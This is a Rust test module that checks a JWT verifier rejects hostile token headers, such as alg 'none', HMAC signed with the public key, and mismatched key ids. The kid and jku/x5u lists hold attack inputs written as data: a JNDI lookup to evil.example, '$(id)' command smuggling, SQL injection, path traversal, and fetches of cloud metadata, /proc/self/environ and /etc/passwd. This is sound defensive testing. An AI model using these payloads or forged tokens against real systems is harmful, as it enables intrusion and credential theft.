//! Headers that request another algorithm, another key or another meaning of the token.

use bearward::tokens::jwt::Algorithm;
use bearward::types::reject::Reason::*;
use serde_json::{Value, json};

use super::{OTHER, Row, World, each, row};
use crate::support::tokens::Mint;

pub(super) fn rows(world: &World) -> Vec<Row> {
    [algorithms(world), confusions(world), types(world), kids(world), parameters(world)].into_iter().flatten().collect()
}

fn algorithms(world: &World) -> Vec<Row> {
    let rejected = vec![
        json!("none"),
        json!("None"),
        json!("NONE"),
        json!("nOnE"),
        json!("none "),
        json!(" none"),
        json!("none\0"),
        json!(""),
        json!("es256"),
        json!("Es256"),
        json!("ES256 "),
        json!("ES256\0"),
        json!("ES256\n"),
        json!("\u{415}S256"),
        json!("E\u{17f}256"),
        json!("ES256,none"),
        json!("ES256K"),
        json!("ES512"),
        json!("ES256K-R"),
        json!("RS1"),
        json!("RS384"),
        json!("PS256"),
        json!("HS1"),
        json!("HS256"),
        json!("HS384"),
        json!("HS512"),
        json!("Ed448"),
        json!("Ed25519"),
        json!("eddsa"),
        json!("ML-DSA-44"),
        json!("dir"),
        json!("A128KW"),
        json!("RSA1_5"),
        json!("RSA-OAEP"),
        json!("ECDH-ES"),
        json!("PBES2-HS256+A128KW"),
        json!("http://www.w3.org/2001/04/xmldsig-more#hmac-sha256"),
        json!("1.2.840.10045.4.3.2"),
        json!(["ES256"]),
        json!(["none", "ES256"]),
        json!({ "name": "ES256" }),
        json!(256),
        json!(0),
        json!(-7),
        json!(true),
        json!(false),
    ];
    let mut rows = each("alg", rejected, |alg| world.header(json!({ "alg": alg })), AlgorithmNotAllowed);
    rows.push(row("alg null", world.header_text(r#"{"alg":null,"typ":"at+jwt"}"#), AlgorithmNotAllowed));
    rows.push(row("no alg", world.header(json!({ "alg": null })), AlgorithmNotAllowed));
    rows.push(row(
        "alg with another name",
        world.header_text(r#"{"ALG":"ES256","typ":"at+jwt"}"#),
        AlgorithmNotAllowed,
    ));
    // An unsecured JWS as RFC 7515 defines it: an empty signature.
    let unsigned = world.header(json!({ "alg": "none" }));
    let (message, _) = unsigned.rsplit_once('.').expect("three segments");
    rows.push(row("alg none and no signature", format!("{message}."), BadSignature));
    rows
}

/// A key used in the wrong way: its public half as a secret, or with another algorithm.
fn confusions(world: &World) -> Vec<Row> {
    let mut rows = Vec::new();
    for (name, secret) in public_halves(&world.mint) {
        let forger = Mint::hmac(Algorithm::HS256, &secret);
        let header = json!({ "alg": "HS256", "typ": "at+jwt", "kid": world.mint.kid });
        let token = forger.sign(&header, &world.mint.claims(world.now));
        rows.push(row(format!("HMAC with {name}"), token, AlgorithmNotAllowed));
    }
    let with_kid = |mint: &Mint, kid: &Mint| {
        let mut header = mint.header();
        header["kid"] = json!(kid.kid);
        mint.sign(&header, &mint.claims(world.now))
    };
    let (p256, p384, ed, rsa) = (&world.mint, &world.p384, &world.ed, &world.rsa);
    for (name, signer, named) in [
        ("ES384 with the kid of a P-256 key", p384, p256),
        ("ES256 with the kid of a P-384 key", p256, p384),
        ("ES256 with the kid of an Ed25519 key", p256, ed),
        ("EdDSA with the kid of a P-256 key", ed, p256),
        ("RS256 with the kid of a P-256 key", rsa, p256),
        ("ES256 with the kid of an RSA key", p256, rsa),
        ("EdDSA with the kid of an RSA key", ed, rsa),
    ] {
        rows.push(row(name, with_kid(signer, named), UnknownKey));
    }
    // The shared secret of one issuer is no key of another issuer, and a public key is no secret.
    let claims = |issuer: &str| {
        let mut claims = world.mint.claims(world.now);
        claims["iss"] = json!(issuer);
        claims
    };
    let shared = world.shared.sign(&world.shared.header(), &world.mint.claims(world.now));
    rows.push(row("another issuer's shared secret", shared, AlgorithmNotAllowed));
    let public = world.mint.sign(&world.mint.header(), &claims(super::SHARED));
    rows.push(row("a public key where a secret is expected", public, AlgorithmNotAllowed));
    let empty = Mint::hmac(Algorithm::HS256, b"");
    rows.push(row("an empty secret", empty.sign(&world.shared.header(), &claims(super::SHARED)), BadSignature));
    let word = Mint::hmac(Algorithm::HS256, b"secret");
    rows.push(row(
        "a secret out of a dictionary",
        word.sign(&world.shared.header(), &claims(super::SHARED)),
        BadSignature,
    ));
    let mut header = world.shared.header();
    header["alg"] = json!("HS512");
    rows.push(row("another hash", world.shared.sign(&header, &claims(super::SHARED)), AlgorithmNotAllowed));
    rows
}

/// The public key in all forms that some verifier has used as a secret.
fn public_halves(mint: &Mint) -> Vec<(&'static str, Vec<u8>)> {
    use base64::Engine;
    use base64::engine::general_purpose::{STANDARD, URL_SAFE_NO_PAD};
    let jwk = mint.jwk();
    let coordinate = |name: &str| URL_SAFE_NO_PAD.decode(jwk[name].as_str().expect("a coordinate")).expect("base64url");
    let point = [&[4], coordinate("x").as_slice(), &coordinate("y")].concat();
    // SubjectPublicKeyInfo of a P-256 key (RFC 5480): constant except for the point.
    let head =
        b"\x30\x59\x30\x13\x06\x07\x2a\x86\x48\xce\x3d\x02\x01\x06\x08\x2a\x86\x48\xce\x3d\x03\x01\x07\x03\x42\0";
    let der = [head, point.as_slice()].concat();
    let lines: Vec<String> =
        STANDARD.encode(&der).as_bytes().chunks(64).map(|line| String::from_utf8_lossy(line).into_owned()).collect();
    let pem = format!("-----BEGIN PUBLIC KEY-----\n{}\n-----END PUBLIC KEY-----", lines.join("\n"));
    vec![
        ("the PEM", pem.clone().into_bytes()),
        ("the PEM and a line break", format!("{pem}\n").into_bytes()),
        ("the base64 of the PEM", lines.concat().into_bytes()),
        ("the DER", der),
        ("the point", point),
        ("the x of the point", coordinate("x")),
        ("the JWK", jwk.to_string().into_bytes()),
        ("the JWKS", mint.jwks().into_bytes()),
        ("the kid", mint.kid.clone().into_bytes()),
    ]
}

fn types(world: &World) -> Vec<Row> {
    let rejected = vec![
        json!("JWT"),
        json!("jwt"),
        json!(""),
        json!("at+jwt "),
        json!(" at+jwt"),
        json!("at+jwt\0"),
        json!("at+jwt;charset=utf-8"),
        json!("at jwt"),
        json!("at%2Bjwt"),
        json!("at+jws"),
        json!("xat+jwt"),
        json!("a\u{167}+jwt"),
        json!("application/"),
        json!("application/JWT"),
        json!("application/application/at+jwt"),
        json!("text/at+jwt"),
        json!("application\\at+jwt"),
        json!("id_token"),
        json!("rt+jwt"),
        json!("logout+jwt"),
        json!("secevent+jwt"),
        json!("dpop+jwt"),
        json!("kb+jwt"),
        json!("token-introspection+jwt"),
        json!("oauth-authz-req+jwt"),
        json!("JOSE"),
        json!("JOSE+JSON"),
        json!(1),
        json!(true),
        json!(["at+jwt"]),
        json!({ "at+jwt": true }),
    ];
    let mut rows = each("typ", rejected, |typ| world.header(json!({ "typ": typ })), WrongType);
    rows.push(row("no typ", world.header(json!({ "typ": null })), WrongType));
    rows.push(row("typ null", world.header_text(r#"{"alg":"ES256","typ":null}"#), WrongType));
    rows.push(row("typ with another name", world.header_text(r#"{"alg":"ES256","Typ":"at+jwt"}"#), WrongType));
    rows
}

fn kids(world: &World) -> Vec<Row> {
    let kid = &world.mint.kid;
    let unknown = vec![
        String::new(),
        " ".into(),
        "0".into(),
        "../../../../../../dev/null".into(),
        "/dev/null".into(),
        "file:///proc/self/environ".into(),
        "https://evil.example/key.pem".into(),
        "key.json".into(),
        "' UNION SELECT 'secret'--".into(),
        "x'; DROP TABLE signing_keys;--".into(),
        "${jndi:ldap://evil.example/a}".into(),
        "$(id)".into(),
        "|id".into(),
        "%s%s%n".into(),
        "*".into(),
        "(uid=*)".into(),
        "a\0b".into(),
        "a\r\nX-Auth-Subject: root".into(),
        "\u{1b}[2J".into(),
        "\u{202e}dik".into(),
        "x".repeat(5000),
        format!("{kid} "),
        format!(" {kid}"),
        format!("{kid}\0"),
        format!("{kid}="),
        kid[..kid.len() - 1].to_owned(),
        kid.to_uppercase(),
        format!("{kid},{}", world.p384.kid),
        world.other.kid.clone(),
        world.shared.kid.clone(),
        world.stranger.kid.clone(),
        "https://login.example".into(),
    ];
    let mut rows = each("kid", unknown, |kid| world.header(json!({ "kid": kid })), UnknownKey);
    let odd = vec![json!(0), json!(1.5), json!(true), json!([kid]), json!({ "kid": kid })];
    rows.extend(each("kid", odd, |kid| world.header(json!({ "kid": kid })), MalformedToken));
    rows.push(row("kid null", world.header_text(r#"{"alg":"ES256","typ":"at+jwt","kid":null}"#), MalformedToken));
    // A kid is looked up only among the keys of the token's issuer.
    let mut claims = world.mint.claims(world.now);
    claims["iss"] = json!(OTHER);
    rows.push(row(
        "another issuer's name, and a key of this one",
        world.mint.sign(&world.mint.header(), &claims),
        UnknownKey,
    ));
    rows.push(row("a stranger with a good kid", with_header_of(&world.stranger, world, kid), BadSignature));
    rows.push(row("another issuer's key with a good kid", with_header_of(&world.other, world, kid), BadSignature));
    rows
}

/// Signed by `signer`, with the kid of another key.
fn with_header_of(signer: &Mint, world: &World, kid: &str) -> String {
    signer.sign(&json!({ "alg": "ES256", "typ": "at+jwt", "kid": kid }), &world.mint.claims(world.now))
}

/// Parameters that name a key, or change the meaning of the payload.
fn parameters(world: &World) -> Vec<Row> {
    let jwk = || world.stranger.jwk();
    let kid = &world.mint.kid;
    let forbidden: Vec<Value> = vec![
        json!({ "crit": ["x-unknown"] }),
        json!({ "crit": ["exp"] }),
        json!({ "crit": ["alg", "kid"] }),
        json!({ "crit": ["b64"], "b64": false }),
        json!({ "crit": ["http://example.com/understand-me"] }),
        json!({ "crit": [] }),
        json!({ "crit": "exp" }),
        json!({ "crit": "" }),
        json!({ "crit": {} }),
        json!({ "crit": 1 }),
        json!({ "crit": false }),
        json!({ "crit": [["x"]] }),
        json!({ "b64": false }),
        json!({ "b64": true }),
        json!({ "b64": 0 }),
        json!({ "b64": "false" }),
        json!({ "zip": "DEF" }),
        json!({ "zip": "" }),
        json!({ "zip": 1 }),
        json!({ "jku": "https://evil.example/jwks.json" }),
        json!({ "jku": "https://login.example@evil.example/jwks.json" }),
        json!({ "jku": "http://169.254.169.254/latest/meta-data" }),
        json!({ "jku": "file:///etc/passwd" }),
        json!({ "jku": "" }),
        json!({ "x5u": "https://evil.example/cert.pem" }),
        json!({ "x5u": "http://127.0.0.1:9443/admin/v1/tokens" }),
        json!({ "x5u": ["a"] }),
        json!({ "jwk": jwk() }),
        json!({ "jwk": world.mint.jwk() }),
        json!({ "jwk": {} }),
        json!({ "jwk": "x" }),
        json!({ "jwk": { "kty": "oct", "k": "AA" } }),
    ];
    let signed = |changes: &Value| world.header(changes.clone());
    let mut rows = each("a good signature, and", forbidden, signed, ForbiddenHeader);
    for name in ["crit", "jwk", "zip", "jku", "x5u", "b64"] {
        rows.push(row(format!("{name} null"), world.header_and(&format!(",\"{name}\":null")), ForbiddenHeader));
    }
    for (name, escaped) in [("crit", r#"\u0063rit"#), ("jwk", r#"jw\u006b"#), ("b64", r#"b\u00364"#)] {
        rows.push(row(format!("{name}, escaped"), world.header_and(&format!(",\"{escaped}\":[]")), ForbiddenHeader));
    }
    // The signature of an unknown key, with that key in the header.
    let strange = |more: Value| {
        let mut header = json!({ "alg": "ES256", "typ": "at+jwt", "kid": kid });
        header.as_object_mut().expect("an object").extend(more.as_object().expect("an object").clone());
        world.stranger.sign(&header, &world.mint.claims(world.now))
    };
    rows.push(row("a stranger's key in jwk", strange(json!({ "jwk": jwk() })), ForbiddenHeader));
    rows.push(row("a stranger's key in JWK", strange(json!({ "JWK": jwk() })), BadSignature));
    rows.push(row("a stranger's key in keys", strange(json!({ "keys": [jwk()] })), BadSignature));
    rows.push(row("a stranger's certificate in x5c", strange(json!({ "x5c": ["MIIB"] })), BadSignature));
    rows.push(row("a stranger's thumbprint", strange(json!({ "x5t#S256": world.stranger.kid })), BadSignature));
    rows.push(row("a stranger's iss in the header", strange(json!({ "iss": OTHER })), BadSignature));
    rows.push(row("a nested token", nested(world), MalformedToken));
    rows
}

/// `cty: JWT`: the payload is another token (RFC 7519 section 5.2).
fn nested(world: &World) -> String {
    let mut header = world.mint.header();
    header["cty"] = json!("JWT");
    world.mint.sign_text(&header.to_string(), &world.good())
}
